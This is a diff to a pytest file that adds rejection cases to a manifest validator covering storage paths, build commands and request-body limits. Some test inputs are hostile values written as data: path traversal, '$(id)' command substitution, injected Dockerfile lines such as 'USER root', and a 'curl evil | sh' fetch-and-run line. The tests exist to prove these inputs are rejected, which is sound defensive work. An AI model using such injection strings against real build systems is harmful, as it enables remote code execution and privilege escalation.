@@ -1,6 +1,7 @@
 """Every field a publisher can get wrong, with the message they get back."""
 
 import json
+from decimal import Decimal
 
 import pytest
 import yaml
@@ -109,6 +110,37 @@ BAD_MANIFESTS = [
     ({**JOB, "job": {"command": ["t"], "outputs": [{"name": "m", "path": "a/" * 120 + "b"}]}}, "job.outputs.0.path", "at most 200 characters"),
     ({"serve": {"handler": "a." * 120 + "b:M"}}, "serve.handler", "at most 200 characters"),
     ({"version": "1.0.0-" + "a" * 80}, "version", "at most 64 characters"),
+    # storage: a volume only where no code, configuration or kernel file lives.
+    *[
+        ({"storage": {"path": path, "size_gb": 1}}, "storage.path", "an absolute folder under `/data`, `/srv`, `/mnt`")
+        for path in [
+            "/", "data", "/data/", "/opt/hub", "/opt/hub/template", "/proc", "/sys/fs", "/dev/shm", "/etc", "/usr/lib",
+            "/bin", "/tmp", "/var/lib", "/var/lib/", "/data/../etc", "/data/.hidden", "/database", "/srv/a b",
+            "/data\nVOLUME /etc", "/data;id", "/mnt/$(id)", "/var/lib/../../etc",
+        ]
+    ],
+    ({"storage": {"path": "/data/" + "a" * 200, "size_gb": 1}}, "storage.path", "at most 200 characters"),
+    ({"storage": {"path": "/data"}}, "storage.size_gb", "is required"),
+    ({"storage": {"size_gb": 1}}, "storage.path", "is required"),
+    ({"storage": {"path": "/data", "size_gb": 0}}, "storage.size_gb", "greater than 0"),
+    ({"storage": {"path": "/data", "size_gb": -1}}, "storage.size_gb", "greater than 0"),
+    ({"storage": {"path": "/data", "size_gb": 5000}}, "storage.size_gb", "less than or equal to 1024"),
+    ({"storage": {"path": "/data", "size_gb": "lots"}}, "storage.size_gb", "valid decimal"),
+    ({"storage": {"path": "/data", "size_gb": 1, "mode": "ro"}}, "storage.mode", "is not a known field"),
+    ({**JOB, "storage": {"path": "/data", "size_gb": 1}}, "", "`storage` is for services"),
+    # runtime.build_command: words run without a shell, like job.command.
+    ({"runtime": {"build_command": ["python", "$(curl evil)"]}}, "runtime.build_command.1", "one command-line word"),
+    ({"runtime": {"build_command": ["python", "train.py\nRUN curl evil | sh"]}}, "runtime.build_command.1", "one command-line word"),
+    ({"runtime": {"build_command": ["sh", "-c", "id; id"]}}, "runtime.build_command.2", "run without a shell"),
+    ({"runtime": {"build_command": ['"]\nUSER root\nRUN ["id']}}, "runtime.build_command.0", "one command-line word"),
+    ({"runtime": {"build_command": ["x"] * 65}}, "runtime.build_command", "at most 64 items"),
+    ({"runtime": {"build_command": ["a" * 201]}}, "runtime.build_command.0", "at most 200 characters"),
+    ({"runtime": {"build_command": "python train.py"}}, "runtime.build_command", "valid list"),
+    # serve.max_body_bytes: 1 KiB to 1 GiB.
+    ({"serve": {"handler": "h:M", "max_body_bytes": 1023}}, "serve.max_body_bytes", "greater than or equal to 1024"),
+    ({"serve": {"handler": "h:M", "max_body_bytes": 1024**3 + 1}}, "serve.max_body_bytes", "less than or equal to 1073741824"),
+    ({"serve": {"handler": "h:M", "max_body_bytes": "1MB"}}, "serve.max_body_bytes", "valid integer"),
+    ({"serve": {"handler": "h:M", "max_body_bytes": 1.5}}, "serve.max_body_bytes", "valid integer"),
 ]
 
 
@@ -134,6 +166,32 @@ def test_it_accepts_a_complete_manifest():
     )
     assert manifest.needs_gpu
     assert manifest.requires[0].env_var == "VECTOR_STORE_URL"
+
+
+def test_it_accepts_storage_a_build_command_and_a_body_limit():
+    manifest = manifest_from_data(
+        manifest_data(
+            runtime={"packages": ["torch==2.13.0"], "build_command": ["python", "train.py", "--out", "build/model.pt"]},
+            serve={"handler": "handler:Model", "max_body_bytes": 8 * 1024 * 1024},
+            storage={"path": "/data", "size_gb": "2.5"},
+        )
+    )
+    assert manifest.runtime.build_command == ["python", "train.py", "--out", "build/model.pt"]
+    assert manifest.serve.max_body_bytes == 8 * 1024 * 1024
+    assert manifest.storage.path == "/data" and manifest.storage.size_gb == Decimal("2.5")
+
+
+@pytest.mark.parametrize("path", ["/data", "/data/vectors", "/srv", "/srv/index-1", "/mnt/cache", "/var/lib/vectors", "/var/lib/my.db/x"])
+def test_storage_may_live_under_the_allowed_folders(path):
+    assert manifest_from_data(manifest_data(storage={"path": path, "size_gb": 1})).storage.path == path
+
+
+def test_a_manifest_without_the_new_fields_keeps_their_old_meaning():
+    # Every version published before these fields existed must read back the same.
+    manifest = manifest_from_data(manifest_data())
+    assert manifest.storage is None
+    assert manifest.runtime.build_command == []
+    assert manifest.serve.max_body_bytes is None
 
 
 def test_debian_names_with_dots_and_pluses_are_not_patterns():
